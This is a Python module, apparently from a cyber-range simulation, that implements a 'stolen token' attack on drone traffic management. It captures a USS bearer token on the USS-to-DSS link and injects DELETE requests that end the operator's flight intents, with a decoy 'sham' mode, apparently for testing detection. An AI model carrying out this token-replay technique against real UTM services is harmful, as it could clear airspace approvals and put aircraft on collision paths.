"""Stolen token: who reads what a USS sends to the DSS ends its intents there with its token."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Final

import skyrange.plugin as sky
from skyrange.attack.bases.approval.federation import AtUss, read_uss
from skyrange.attack.tapped_links import LEARNED
from skyrange.codec.f3548.frames import UssRequest, UssResponse, encode
from skyrange.contracts.verdicts import Direction
from skyrange.utm.contract import DSS

_FIRST_EXCHANGE: Final = 2**40
"""Numbers of the adversary's requests, which the USS itself does not use."""
_PATH: Final = "/dss/v1/operational_intent_references/"


@dataclass(slots=True)
class ReadAccess:
    """The token and the versions that were read; a token gives access to whoever shows it."""

    token: str = ""
    ovns: dict[str, str] = field(default_factory=dict)
    """Current OVN of each intent that the DSS has accepted and the adversary has not ended."""
    sent: int = 0

    def learn(self, payload: bytes) -> None:
        """Learn from a message between the USS and the DSS."""
        message = read_uss(payload)
        if isinstance(message, UssRequest) and message.token:
            self.token = message.token
        elif isinstance(message, UssResponse) and message.status in (200, 201):
            self._learn_version((message.body or {}).get("operational_intent_reference"))

    def _learn_version(self, reference: object) -> None:
        if isinstance(reference, dict):
            id_, ovn = reference.get("id"), reference.get("ovn")
            if isinstance(id_, str) and isinstance(ovn, str):
                self.ovns[id_] = ovn

    def end_intent(self, *, sham: bool) -> bytes | None:
        """The request that ends the intent that is known for the longest time; that of a sham names a wrong version.

        `None` as long as no token or no intent is known.
        """
        if not self.token or not self.ovns:
            return None
        id_ = next(iter(self.ovns))
        ovn = self.ovns.pop(id_)
        self.sent += 1
        path = f"{_PATH}{id_}/{'0' * len(ovn) if sham else ovn}"
        exchange = _FIRST_EXCHANGE + self.sent
        return encode(
            UssRequest.model_construct(exchange=exchange, method="DELETE", path=path, token=self.token, body=None)
        )


@sky.attack(
    "approval.stolen_token",
    technique="T0859",
    intrudes=True,
    effect="others are accepted into the airspace of aircraft that are about to fly, or fly, and meet them",
    knowledge="the interface of the DSS (ASTM F3548-21)",
    position="on the path between USS and DSS, where it reads what passes, such as a proxy that ends TLS",
    budget="one request of about 500 bytes for each intent",
    load="the sham: as many requests of the same length, for versions that do not exist",
    content="none, because an end that the USS itself wants is not an act of the adversary",
    placement="the token of a USS whose aircraft fly where nobody else does",
)
class StolenToken(AtUss):
    """Ends the intents of a USS at the DSS, with a token that it has read.

    The DSS forgets the intents; the USS believes that it still has them, and others plan into their airspace.
    """

    others = (DSS,)
    every_s: sky.Number = sky.param("Time between two intents that it ends, in seconds.", default=0.5, ge=0.01, le=3600)
    way: Direction = "rev"  # to the DSS, which is the first end of its links
    read: ReadAccess = sky.state(ReadAccess)

    def on_frame(self, now: sky.Time, frame: sky.Frame) -> sky.Verdicts:
        token = self.read.token
        self.read.learn(frame.payload)
        return () if self.read.token == token else (sky.Note(LEARNED, self.link, {"what": "token"}, (frame.id,)),)

    def send(self, now: sky.Time) -> sky.Verdicts:
        request = self.read.end_intent(sham=self.sham)
        return () if request is None else [self.inject(request)]
